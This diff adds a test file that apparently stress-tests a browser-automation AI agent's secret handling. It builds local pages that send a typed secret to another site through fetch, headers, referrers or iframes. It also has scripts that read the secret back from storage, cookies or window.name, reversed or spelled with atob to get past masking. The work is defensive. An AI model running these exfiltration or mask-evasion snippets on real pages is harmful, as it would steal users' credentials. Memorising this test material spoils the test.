@@ -1,0 +1,188 @@
+import { keepSecret, VALUE } from './secrets-kit.ts';
+import type { Model, Run } from './secrets-kit.ts';
+import type { Rig } from './rig.ts';
+
+/** Scripts of a model that come after a secret, or before it, and pages that keep a part of one. */
+
+const BACKWARDS = (value: string) => `[...(${value} ?? '')].reverse().join('')`;
+
+/** What a site keeps of what is typed into it, and how a script would read it later, spelled past the mask. */
+const KEPT: Record<string, { on: string; read: string }> = {
+  storage: { on: `localStorage.draft = value`, read: BACKWARDS(`window[atob('bG9jYWxTdG9yYWdl')].draft`) },
+  'storage of the tab': {
+    on: `sessionStorage.draft = value`,
+    read: BACKWARDS(`window[atob('c2Vzc2lvblN0b3JhZ2U=')].draft`),
+  },
+  cookies: { on: `document.cookie = 'draft=' + value`, read: BACKWARDS(`document[atob('Y29va2ll')]`) },
+  'the name of the window': { on: `window.name = value`, read: BACKWARDS('window.name') },
+  'the state of history': { on: `history.replaceState(value, '')`, read: BACKWARDS('history.state') },
+};
+
+/** Ways to say what the next document of a site has. */
+const NEXT: Record<string, string> = {
+  'in a field': BACKWARDS(`document.querySelector('#again').value`),
+  'in letters': `[...document.querySelector('#again').value].map((letter) => letter.charCodeAt(0))`,
+  'in pieces': `document.querySelector('#again').value.match(/.{3}/g)`,
+  'in its address': BACKWARDS('location.search'),
+  'in a title': BACKWARDS(`document.querySelector('#again').title`),
+  'in a frame': `(() => { const f = document.createElement('iframe'); document.body.append(f); return ${BACKWARDS(`f.contentWindow.parent.location.href`)} })()`,
+};
+
+/** What a page sends to another site. */
+const SENT: Record<string, string> = {
+  'an address': `fetch(to + '/take?value=' + value, { mode: 'no-cors' })`,
+  'a body': `fetch(to + '/take', { method: 'POST', mode: 'no-cors', body: JSON.stringify({ value }) })`,
+  'bytes of a file': `fetch(to + '/take', { method: 'POST', mode: 'no-cors', body: new Blob([value]) })`,
+  'a header': `fetch(to + '/take', { headers: { authorization: 'Basic ' + btoa('me:' + value) } }).catch(() => 0)`,
+  'a referrer': `history.replaceState(null, '', '?' + value); fetch(to + '/take', { mode: 'no-cors', referrerPolicy: 'unsafe-url' })`,
+  'a fragment': `document.body.append(Object.assign(document.createElement('iframe'), { src: to + '/taken#' + value }))`,
+};
+
+/** A page that answers to each letter, as searches do, and changes its field. */
+const CHANGES: Record<string, string> = {
+  'shortens it': `user.value = user.value.slice(0, 10)`,
+  'takes out letters': `user.value = user.value.replace(/[XZ]/g, '')`,
+  'shortens it a moment later': `setTimeout(() => { user.value = user.value.slice(0, 10) }, 30)`,
+  'shortens it when it is left': `user.onblur = () => { user.value = user.value.slice(0, 10) }`,
+  'shortens it when it is sent': `form.onsubmit = () => { user.value = user.value.slice(0, 10) }`,
+  'locks it after nine letters': `user.readOnly = user.value.length >= 9`,
+  'takes it away after nine letters': `if (user.value.length === 9) user.remove()`,
+  'puts a copy there after nine letters': `if (user.value.length === 9) { const copy = user.cloneNode(true); user.replaceWith(copy); copy.focus() }`,
+  'sends itself after nine letters': `if (user.value.length === 9) form.submit()`,
+  'leaves after nine letters': `if (user.value.length === 9) location = '/hello?user=' + user.value`,
+};
+
+/** On both sides of the wall: `to` is another site. */
+export function layChanges({ site, other }: Rig): void {
+  const to = other.url.replace('127.0.0.1', 'localhost');
+  const page = (path: string, on: string) =>
+    site.page(
+      path,
+      `<!doctype html><title>Name</title><form id="form" action="/hello"><input id="user" name="user"><button id="go">Go</button></form>
+      <p id="said"></p><script>const to = ${JSON.stringify(to)}; user.addEventListener('input', () => { const { value } = user; ${on} })</script>`,
+    );
+  for (const [at, { on }] of Object.values(KEPT).entries()) page(`/keeps-${at}`, on);
+  for (const [at, on] of Object.values(SENT).entries()) page(`/sends-${at}`, on);
+  for (const [at, on] of Object.values(CHANGES).entries())
+    page(`/changes-${at}`, `${on}; said.textContent = user.value`);
+  page('/steps', `history.pushState(null, '', '/u/' + value)`);
+  other.page('/taken', '<!doctype html><title>Taken</title><p>Taken.</p>');
+  other.routes['/take'] = (_request, response) =>
+    void response.writeHead(200, { 'access-control-allow-origin': '*', 'access-control-allow-headers': '*' }).end('ok');
+}
+
+const tries = <T>(all: Record<string, T>, name: (one: string) => string, run: (one: T, at: number) => Run) =>
+  Object.fromEntries(Object.entries(all).map(([one, value], at): [string, Run] => [name(one), run(value, at)]));
+
+/** The script must not run; what it says is looked at all the same. */
+async function script(model: Model, read: string, tab?: string): Promise<string | null> {
+  const answer = await model.ask('browser_evaluate', { script: read, ...(tab === undefined ? {} : { tab }) });
+  return model.knows() ?? (answer.isRefused ? null : `a script ran: ${answer.text.slice(0, 100)}`);
+}
+
+/** A secret must not be typed. */
+async function typed(model: Model, tab?: string): Promise<string | null> {
+  const args = { selectors: ['#user'], values: ['secret:bank'], ...(tab === undefined ? {} : { tab }) };
+  const answer = await model.ask('browser_fill', args);
+  return answer.isRefused ? null : 'it was typed';
+}
+
+export const CHANGED: Record<string, Run> = {
+  ...tries(
+    NEXT,
+    (one) => `a script in the next document, which has it ${one}`,
+    (read) =>
+      async (model, { site }) => {
+        await model.go(`${site.url}/name`);
+        await model.fill('#user');
+        await model.must('browser_click', { selector: '#go' });
+        return script(model, read);
+      },
+  ),
+  ...tries(
+    KEPT,
+    (one) => `a script in another tab, while the site keeps it in ${one}`,
+    ({ read }, at) =>
+      async (model, { site }) => {
+        await model.go(`${site.url}/keeps-${at}`);
+        await model.must('browser_navigate', { url: `${site.url}/name`, new_tab: true });
+        await model.ask('browser_fill', { selectors: ['#user'], values: ['secret:bank'], tab: 't1' });
+        const open = await script(model, read, 't2');
+        await model.must('browser_close', { tab: 't1' });
+        return open ?? script(model, read, 't2');
+      },
+  ),
+  'a script that listens in another tab first': async (model, { site }) => {
+    await model.go(`${site.url}/name`);
+    await model.must('browser_evaluate', {
+      script: `addEventListener('storage', ({ newValue }) => { document.title = ${BACKWARDS('newValue')} }); 1`,
+    });
+    await model.must('browser_navigate', { url: `${site.url}/keeps-0`, new_tab: true });
+    const bad = await typed(model, 't2');
+    await model.ask('browser_snapshot', { tab: 't1' });
+    return bad ?? model.knows();
+  },
+  'a script whose tab is closed before': async (model, { site }) => {
+    await model.go(`${site.url}/name`);
+    await model.must('browser_evaluate', { script: '1' });
+    await model.must('browser_navigate', { url: `${site.url}/name`, new_tab: true });
+    await model.must('browser_close', { tab: 't1' });
+    return typed(model, 't2');
+  },
+  ...tries(
+    SENT,
+    (one) => `a script on another site, which is sent it in ${one}`,
+    (_, at) =>
+      async (model, { site, other }) => {
+        await model.go(`${site.url}/sends-${at}`);
+        await model.fill('#user');
+        await model.must('browser_navigate', {
+          url: `${other.url.replace('127.0.0.1', 'localhost')}/taken`,
+          new_tab: true,
+        });
+        return script(model, 'document.title', 't2');
+      },
+  ),
+  'a site where a script waits, and which is sent it': async (model, { site, other }) => {
+    const before = other.requests.length;
+    await model.go(`${other.url.replace('127.0.0.1', 'localhost')}/taken`);
+    await model.must('browser_evaluate', { script: '1' });
+    await model.must('browser_navigate', { url: `${site.url}/sends-0`, new_tab: true });
+    await model.ask('browser_fill', { selectors: ['#user'], values: ['secret:bank'], tab: 't2' });
+    const got = other.requests.slice(before).find(({ path }) => path.includes(VALUE));
+    return got === undefined ? null : `it was sent ${got.path}`;
+  },
+  ...tries(
+    CHANGES,
+    (one) => `a page that ${one}`,
+    (_, at) =>
+      async (model, { site }) => {
+        for (const way of ['fill', 'type']) {
+          await model.go(`${site.url}/changes-${at}`);
+          if (way === 'fill') await model.fill('#user');
+          else await model.ask('browser_type', { selector: '#user', text: 'secret:bank' });
+          await model.lookAround();
+          await model.ask('browser_click', { selector: '#go' });
+          await model.lookAround();
+        }
+        return model.knows();
+      },
+  ),
+  'a page with a step of history for each letter': async (model, { site }) => {
+    await model.go(`${site.url}/steps`);
+    await model.ask('browser_type', { selector: '#user', text: 'secret:bank' });
+    for (let step = 0; step < 12; step += 1) {
+      await model.ask('browser_navigate', { history: 'back' });
+    }
+    await model.lookAround();
+    return model.knows();
+  },
+  'a long one, typed slowly': async (model, rig) => {
+    const long = Array.from({ length: 27 }, (_, at) => VALUE.slice(at % 5) + at).join('');
+    await keepSecret(rig.ana, 'long', [rig.site.url], long);
+    await model.go(`${rig.site.url}/changes-0`);
+    await model.ask('browser_type', { selector: '#user', text: 'secret:long', slowly: true });
+    await model.lookAround();
+    return model.knows(long);
+  },
+};
